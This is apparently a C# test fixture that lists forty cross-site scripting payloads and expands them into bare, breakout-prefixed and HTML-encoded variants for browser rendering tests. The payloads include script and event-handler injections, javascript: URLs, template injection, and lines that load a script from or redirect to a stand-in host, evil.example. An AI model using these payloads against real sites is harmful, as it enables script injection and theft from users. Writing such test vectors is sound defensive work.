using System.Net;

namespace Fanfare.Browser.Tests;

/// <summary>What people write who hope that a page takes text for markup: forty vectors, each bare, breaking out of what may surround it, and encoded.</summary>
internal static class HostileTexts
{
    private static readonly string[] Vectors =
    [
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        "<script>alert(1)//",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=`x` onerror=alert(1)>",
        "<img src='x' onerror='alert(1)'",
        "<svg onload=alert(1)>",
        "<svg/onload=alert`1`>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1)>",
        "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
        "<math><mi xlink:href=javascript:alert(1)>x</math>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<a href='java&#x09;script:alert(1)'>x</a>",
        "[x](javascript:alert(1))",
        "![x](x onerror=alert(1))",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video src=x onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<style>*{background:url(//evil.example)}</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example/>",
        "<form action=//evil.example><button>x</button></form>",
        "<template><img src=x onerror=alert(1)></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}<!--<img src=x onerror=alert(1)>-->",
    ];

    /// <summary>120 texts.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Vectors, .. Vectors.Select(vector => $"\"'`></p></article></textarea></title>{vector}"), .. Vectors.Select(WebUtility.HtmlEncode).OfType<string>()];

    /// <summary>The same as names: cut to a length, and each one's own.</summary>
    public static IEnumerable<string> Names(int length) =>
        All.Select((text, number) => $"{number}{text}"[..Math.Min(length, $"{number}{text}".Length)].Trim());
}
